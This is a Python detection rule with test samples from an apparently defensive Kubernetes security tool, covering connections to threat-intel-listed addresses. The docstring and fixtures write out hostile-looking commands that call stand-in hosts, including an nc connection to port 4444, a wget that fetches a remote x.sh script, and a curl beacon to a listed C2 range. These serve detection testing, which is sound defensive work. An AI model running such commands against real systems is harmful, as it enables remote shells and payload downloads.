"""K8S.NODE_ThreatIntelConnection: a process on a node or in a container connecting to, or naming on
its command line, an address or domain that a configured threat-intelligence feed lists.

The intel enricher does the lookups (the same feeds and index as the FTP and web cards): for a
connection, its destination address (and host name when the source resolved it); for a process
start, the addresses and domain names its arguments name (`curl http://…`, `nc 203.0.113.9 4444`,
`wget -qO- evil.example/x.sh`). The alert names the feeds, the indicators and their context.
"""

from __future__ import annotations

from typing import Any

from cloudward.alerts import Finding
from cloudward.analytics.processes import process_entities
from cloudward.detections.base import Card, Detection, Sample
from cloudward.detections.node._samples import (
    audit_connect,
    audit_exec,
    container_id,
    shim,
    tetragon_connect,
    tetragon_exec,
)
from cloudward.events import NetConnection, ProcessExec

FEED = """# c2 and mining infrastructure (sample)
203.0.113.0/24 ; known C2 range, campaign "Sandworm-lite"
198.51.100.7 ; miner dropper host
evil-updates.example ; phishing kit and payload host
2001:db8:bad::/48
"""
APP_ID = container_id("cw-app")

CARD = Card(
    id="K8S.NODE_ThreatIntelConnection",
    title="Connection to an address found in threat intelligence",
    title_ko="위협 인텔리전스에 있는 주소로의 연결",
    severity="medium",
    tactics=("CommandAndControl",),
    techniques=("T1071", "T1105"),
    data_source="HOST",
    looks_at="connections (audit connect(), Tetragon, ECS, Sysmon, the agent) whose destination, and process starts "
             "whose command line names an address or domain, that the intel enricher found on a feed (--intel, "
             "[intel] feeds, [[intel.taxii]])",
    description="[[On {host}, ]]{process} (pid {pid}, user {user}){where} {how} {indicators_matched}, listed in "
                "threat intelligence ({feeds}: {context}). Command line: {command_line}.",
    description_ko="[[{host}에서 ]]{process}(pid {pid}, 사용자 {user}){where_ko}이(가) 위협 인텔리전스({feeds}: {context})에 "
                   "등록된 {indicators_matched}에 {how_ko}. 명령줄: {command_line}.",
    remediation=(
        "Find out why the process talks to this address: its parent, the file it runs from, and who started it.",
        "If it is not a known service, isolate the host or container, keep its memory and disk for analysis, and "
        "block the address and domain at the egress.",
        "Look for what came from there (downloaded files in /tmp, new cron entries, new containers) and for other "
        "hosts reaching the same indicator.",
        "Rebuild affected containers and hosts from clean images; rotate credentials they held.",
    ),
    remediation_ko=(
        "프로세스가 이 주소와 통신하는 이유를 확인하십시오: 부모 프로세스, 실행 파일의 위치, 시작한 사용자.",
        "알려진 서비스가 아니라면 호스트나 컨테이너를 격리하고 분석을 위해 메모리와 디스크를 보존한 뒤, 이그레스에서 해당 주소와 "
        "도메인을 차단하십시오.",
        "그곳에서 받아온 것(/tmp의 다운로드 파일, 새 cron 항목, 새 컨테이너)과 같은 지표에 접속한 다른 호스트를 찾으십시오.",
        "영향을 받은 컨테이너와 호스트를 깨끗한 이미지로 다시 만들고, 보유했던 자격 증명을 교체하십시오.",
    ),
    false_positives=(
        "Feeds that list shared infrastructure (CDNs, cloud ranges, public resolvers) your own services use; allow "
        "the destination, e.g. { destination_ip = \"203.0.113.10\" }, or drop the feed entry.",
        "Security tools that look indicators up on purpose (scanners, sandboxes); allow them by process or image.",
    ),
    samples=(
        Sample("curl in a container connects to a listed C2 range (auditd connect, as recorded)", "auditd",
               shim(14001, 9100, APP_ID)
               + audit_exec(14002, 9110, 9100, ["curl", "-s", "http://203.0.113.50:8080/beacon"], exe="/usr/bin/curl")
               + audit_connect(14003, 9110, 9100, "/usr/bin/curl", ["curl", "-s", "http://203.0.113.50:8080/beacon"],
                               "203.0.113.50", 8080),
               expect=1, intel=FEED,
               entities={"container_id": APP_ID, "destination_ip": "203.0.113.50",
                         "indicators": ["203.0.113.0/24"]}),
        Sample("wget naming a listed domain on its command line (auditd)", "auditd",
               audit_exec(14010, 9200, 9199, ["wget", "-qO-", "http://cdn.evil-updates.example/x.sh"],
                          exe="/usr/bin/wget", uid=33),
               expect=1, intel=FEED, entities={"indicators": ["evil-updates.example"], "user": "www-data"}),
        Sample("nc to a listed address in a pod (Tetragon tcp_connect)", "tetragon",
               [tetragon_exec("/usr/bin/nc", "198.51.100.7 4444"),
                tetragon_connect("/usr/bin/nc", "198.51.100.7 4444", "198.51.100.7", 4444)],
               expect=1, intel=FEED, entities={"destination_ip": "198.51.100.7", "pod": "web-7d9f8b6c5d-x2x9q"}),
        Sample("connections to addresses not on the feed", "auditd",
               audit_connect(14020, 9300, 1, "/usr/bin/curl", ["curl", "https://192.0.2.10/"], "192.0.2.10", 443)
               + audit_exec(14021, 9301, 1, ["curl", "https://deb.debian.org/debian/"], exe="/usr/bin/curl"),
               expect=0, intel=FEED),
        Sample("nothing alerts without a feed", "auditd",
               audit_connect(14030, 9400, 1, "/usr/bin/curl", ["curl", "http://203.0.113.50/"], "203.0.113.50", 80),
               expect=0),
    ),
)


def _context(hit: dict[str, Any]) -> str:
    ctx = hit.get("context")
    if isinstance(ctx, dict):
        for key in ("comment", "description", "name", "event"):
            if ctx.get(key):
                return str(ctx[key])[:200]
    return ""


class ThreatIntelConnection(Detection):
    card = CARD
    kinds = (NetConnection, ProcessExec)
    #: process executions `evaluate` can find anything in (only processes with threat-intel hits; see cloudward.process_dispatch)
    process_gate = {"host": "intel", "container": "intel"}

    def evaluate(self, event: NetConnection | ProcessExec) -> list[Finding] | None:
        hits = event.intel
        if not hits:
            return None
        ent = process_entities(event)
        ent["feeds"] = sorted({str(h.get("feed")) for h in hits})
        ent["indicators"] = sorted({str(h.get("indicator")) for h in hits})
        ent["indicators_matched"] = sorted({str(h.get("matched")) for h in hits})
        ent["context"] = sorted({c for c in (_context(h) for h in hits) if c}) or ["no context in the feed"]
        ent["intel"] = [dict(h) for h in hits]
        if type(event) is NetConnection:
            ent["destination_ip"] = event.destination_ip
            ent["destination_port"] = event.destination_port
            if event.destination_host:
                ent["destination_host"] = event.destination_host
            how, how_ko = "connected to", "연결했습니다"
        else:
            how, how_ko = "named on its command line", "대한 접근을 명령줄에 지정했습니다"
        where = f" in container {ent['container']}" if event.container_id else ""
        where_ko = f"(컨테이너 {ent['container']})" if event.container_id else ""
        # one alert per process image and container: a beaconing process folds into it
        key = f"{event.host}|{event.container_id}|{ent['process']}|{','.join(ent['indicators'])}"
        return [Finding(key=key, entities=ent, event=event,
                        params={"how": how, "how_ko": how_ko, "where": where, "where_ko": where_ko})]
